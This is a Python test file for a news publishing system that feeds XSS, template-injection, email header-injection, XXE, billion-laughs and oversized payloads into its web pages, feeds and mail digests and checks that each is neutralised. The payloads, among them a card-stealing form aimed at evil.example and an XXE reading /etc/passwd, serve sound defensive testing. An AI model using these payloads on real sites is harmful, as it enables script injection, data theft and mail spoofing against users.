"""Hostile articles at every exit: the public page, the feeds, the mail, the desk.

The articles go into the database as they are, past the cleaning when they are read: each exit has to hold alone.
What is compared with is the same exit with a harmless article, so that every case has its control.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import replace
from datetime import UTC, datetime
from email import message_from_bytes, policy
from pathlib import Path
from urllib.parse import urlsplit

import feedparser
import html5lib
import pytest
from lxml import etree

from syndicate.articles.model import Article, RawDocument, Severity
from syndicate.articles.reading import read
from syndicate.errors import BadDataError
from syndicate.feeds.texts import untagged
from syndicate.mail.digest import DigestRenderer
from syndicate.mail.message import build_message
from syndicate.mail.model import Envelope
from syndicate.storage import Database
from syndicate.text.html import Outlet, sanitise
from syndicate.web.public.application import public_app
from tests.unit.articles.article_samples import RULES
from tests.unit.mail.quay import FERRY, SINGLE, TEMPLATES, UNSUBSCRIBE
from tests.unit.web.web_samples import Door, Newsroom, enter, fetch

Show = Callable[[Article], str]


@pytest.fixture(scope="module")
def door() -> Iterator[Door]:
    with Door() as door:
        yield door


@pytest.fixture
def newsroom(sqlite_database: Database, tmp_path: Path) -> Newsroom:
    return Newsroom(sqlite_database, tmp_path)


@pytest.fixture
def exits(door: Door, newsroom: Newsroom) -> Mapping[str, Show]:
    """By its name, what an exit shows of an article, as HTML."""

    def page(article: Article) -> str:
        door.app = public_app(newsroom.site())
        reply = fetch(door.url + urlsplit(newsroom.links.article(article.id, article.title)).path)
        assert reply.status == 200
        return reply.text

    def preview(article: Article) -> str:
        inside = enter(door, newsroom.desk())
        reply = fetch(f"{door.url}/articles/{article.id}", headers=inside)
        assert reply.status == 200
        return reply.text

    def feed(name: str) -> Show:
        def show(article: Article) -> str:
            newsroom.publish_feeds()
            stored = newsroom.feeds.read(name)
            assert stored is not None
            if name.endswith(".json"):
                (item,) = json.loads(stored.content)["items"]
                return f"<h1>{_escape(item['title'])}</h1>{item['content_html']}"
            parsed = feedparser.parse(stored.content, sanitize_html=False, resolve_relative_uris=False)
            assert not parsed.bozo
            (entry,) = parsed.entries
            assert entry.id == article.tag
            (title,) = etree.fromstring(stored.content).iterfind(
                "{*}entry/{*}title" if "atom" in name else "*/item/title"
            )
            is_html = title.get("type") == "html"
            return f"<h1>{title.text if is_html else _escape(title.text or '')}</h1>{entry.content[0].value}"

        return show

    def mail(article: Article) -> str:
        lead = replace(FERRY, headline=article.title or "", deck=article.deck or "", excerpt=article.body_text[:280])
        return DigestRenderer(TEMPLATES).render(replace(SINGLE, lead=lead)).html

    feeds = {name: feed(name) for name in ("rss.xml", "atom.xml", "feed.json")}
    return {"page": page, "preview": preview, "mail": mail, **feeds}


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;")


EXITS = ["page", "preview", "mail", "rss.xml", "atom.xml", "feed.json"]
BODY_EXITS = ["page", "rss.xml", "atom.xml", "feed.json"]
TAGS = """
p br hr h2 h3 h4 h5 h6 ul ol li blockquote a strong b em i u s code pre sub sup small q cite abbr figure figcaption
dl dt dd table caption thead tbody tfoot tr th td del ins kbd mark time
"""
ALLOWED = frozenset(TAGS.split())
#: Attributes that no body may bring, whatever the exit's own page has.
FORBIDDEN = ("on", "style", "id", "name", "srcdoc", "formaction", "xlink", "background", "src")


def shape(html: str) -> set[tuple[str, str]]:
    """Every element with each of its attributes, as a second parser reads them."""
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    found = set()
    for element in tree.iter():
        name = element.tag if isinstance(element.tag, str) else "#comment"
        found |= {(name, attribute) for attribute in ("", *(str(one) for one in element.attrib))}
    return found


def text_of(html: str) -> str:
    return " ".join("".join(html5lib.parse(html, namespaceHTMLElements=False).itertext()).split())


HOSTILE_BODIES = [
    '<svg><a><set attributeName="href" to="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></svg>',
    "</td></table></body></html><p>after</p>",
    '<div style="display:none">',
    "<textarea>",
    "<plaintext>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><object data="x"></object><embed src="x">',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<img src="https://tracker.example/dot.gif"><picture><source srcset="https://tracker.example/a.jpg"></picture>',
    '<video src="https://tracker.example/v" autoplay></video><audio src="x"></audio>',
    '<a href="JaVa\tScRiPt:alert(1)">x</a><a href="data:text/html,x">y</a><a href="//evil.example">z</a>',
    '<p onclick="alert(1)" id="footer" class="brand" name="x" style="position:fixed;inset:0">a</p>',
    "<!--[if mso]><v:rect><![endif]--><!-- ]]> -->",
    "<template><script>alert(1)</script></template><slot></slot>",
    "<dialog open>x</dialog><details open ontoggle=alert(1)>y</details>",
    "]]></content></entry></feed><script>alert(1)</script>",
]


@pytest.mark.parametrize("body", HOSTILE_BODIES)
@pytest.mark.parametrize("name", BODY_EXITS)
def test_a_hostile_body_brings_no_element_and_no_attribute_of_its_own(
    exits: Mapping[str, Show], newsroom: Newsroom, name: str, body: str
) -> None:
    safe = newsroom.add("safe", body_html="<p>Words</p>")
    before = shape(exits[name](safe))
    with newsroom.database.write() as connection:
        connection.exec_driver_sql("DELETE FROM articles")
    after = shape(exits[name](newsroom.add("hostile", body_html=f"<p>Words</p>{body}<p>End</p>")))
    brought = after - before
    assert {tag for tag, _ in brought} <= ALLOWED
    assert not [pair for pair in brought if pair[1].startswith(FORBIDDEN)]
    assert "#comment" not in {tag for tag, _ in brought}


@pytest.mark.parametrize("body", HOSTILE_BODIES)
def test_a_hostile_body_leaves_the_foot_of_the_page_last_and_in_sight(
    exits: Mapping[str, Show], newsroom: Newsroom, body: str
) -> None:
    shown = text_of(exits["page"](newsroom.add("hostile", body_html=f"<p>Words</p>{body}")))
    assert shown.rfind("4 Basin Street") > shown.rfind("Words")


@pytest.mark.parametrize("body", HOSTILE_BODIES)
def test_a_hostile_body_keeps_no_address_that_is_not_of_the_web(
    exits: Mapping[str, Show], newsroom: Newsroom, body: str
) -> None:
    article = newsroom.add("hostile", body_html=body)
    for name in BODY_EXITS:
        html = exits[name](article)
        assert "tracker.example" not in html
        tree = html5lib.parse(html, namespaceHTMLElements=False)
        links = [one.get("href", "").strip().lower() for one in tree.iter("a")]
        assert not [one for one in links if one.startswith(("javascript", "data", "vbscript", "//"))]


def test_the_control_passes_every_exit_unharmed(exits: Mapping[str, Show], newsroom: Newsroom) -> None:
    body = (
        '<p>One <em>two</em> <a href="https://quay.example/x?a=1&amp;b=2">three</a></p><h2>Four</h2>'
        "<ul><li>five</li></ul><blockquote><p>six</p></blockquote><table><tr><td>7</td></tr></table><pre>8 &lt; 9</pre>"
    )
    article = newsroom.add("good", title="R&D < 5 % “so”", body_html=body)
    for name in BODY_EXITS:
        html = exits[name](article)
        assert 'href="https://quay.example/x?a=1&amp;b=2"' in html
        assert {"em", "h2", "li", "blockquote", "td", "pre"} <= {tag for tag, _ in shape(html)}
        assert "R&D < 5 % “so”" in text_of(html)


# --- words that templates, mails and headers might take for their own ---------------------

HOSTILE_WORDS = [
    "{{1337*7331}}",
    "{{ from 5",
    "{% for x in y %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "</mj-text><mj-raw><script>alert(1)</script></mj-raw>",
    '<mj-include path="/etc/passwd" />',
    "]]><script>alert(1)</script>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "&lt;script&gt; &amp;amp;",
]


@pytest.mark.parametrize("words", HOSTILE_WORDS)
@pytest.mark.parametrize("name", EXITS)
def test_hostile_words_in_a_headline_are_shown_as_they_are_written(
    exits: Mapping[str, Show], newsroom: Newsroom, name: str, words: str
) -> None:
    safe = newsroom.add("safe", title="Words")
    before = shape(exits[name](safe))
    with newsroom.database.write() as connection:
        connection.exec_driver_sql("DELETE FROM articles")
    html = exits[name](newsroom.add("hostile", title=words))
    shown = text_of(html)
    line = " ".join(words.split())
    # RSS cannot say that a title is no HTML, so it leaves out what half of the readers would not show.
    assert (untagged(line) if name == "rss.xml" else line) in shown
    assert "9801547" not in shown
    assert {tag for tag, _ in shape(html) - before} == set()


@pytest.mark.parametrize(
    "title",
    [
        "News\r\nBcc: all@x.example",
        "News\nSubject: other",
        "News\x00\x0b\x1c\x85\u2028Bcc: x@x.example",
        "=?utf-8?q?News=0D=0ABcc:_x@x.example?=",
        "%0d%0aBcc: x@x.example",
        "\u202eeman elif\u202c",
        "a" * 3_000,
    ],
)
def test_a_headline_as_the_subject_makes_no_second_header(title: str) -> None:
    envelope = Envelope(
        subject=title,
        sender_name="The Quay",
        sender_address="news@quay.example",
        recipient_name=title,
        recipient_address="ada@reader.example",
        list_id="morning.quay.example",
        delivery_id="d1",
        reply_to=None,
        unsubscribe_url=UNSUBSCRIBE,
        unsubscribe_mailto=None,
    )
    content = build_message(envelope, "<p>x</p>", "x", date=datetime(2026, 11, 22, tzinfo=UTC), message_id="<a@b>")
    parsed = message_from_bytes(content, policy=policy.default)
    assert parsed["Bcc"] is None
    assert len(parsed.get_all("Subject", [])) == len(parsed.get_all("To", [])) == 1


# --- documents that no parser should open --------------------------------------------------

BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><rss><channel><title>&j;</title></channel></rss>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>'
DTD = '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://127.0.0.1:9/x.dtd"><feed/>'


@pytest.mark.timeout(10)
@pytest.mark.parametrize("document", [BOMB, XXE, DTD])
def test_xml_is_held_without_ever_being_parsed(document: str) -> None:
    draft = read(RawDocument(source="desk", external_id="x", content=document.encode()), RULES)
    assert draft.findings[0].severity is Severity.BLOCK
    assert "root:" not in repr(draft)


# --- too much ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<p>" + " " * 200_000,
        "<a href='" + "x" * 200_000,
        "<" * 200_000,
        "&" * 200_000,
        "<p " + "a=1 " * 50_000 + ">",
        "<b><i>" * 30_000,
        "<table><tr><td>" * 60,
        "<!--" * 50_000,
        "<p>x</p>" * 25_000,
    ],
    ids=["deep", "spaces", "attribute", "brackets", "ampersands", "attributes", "open", "tables", "comments", "flat"],
)
@pytest.mark.timeout(20)
@pytest.mark.parametrize("outlet", list(Outlet))
def test_two_hundred_kilobytes_of_anything_are_answered_at_once(html: str, outlet: Outlet) -> None:
    with suppress(BadDataError):  # too deep, or too large: that is an answer, too
        assert "<script" not in sanitise(html, outlet)


def test_a_body_that_became_too_deep_leaves_its_words_on_the_page(
    exits: Mapping[str, Show], newsroom: Newsroom
) -> None:
    article = newsroom.add("deep", body_html="<blockquote>" * 300 + "Words", body_text="Words that are still good.")
    assert "Words that are still good." in text_of(exits["page"](article))
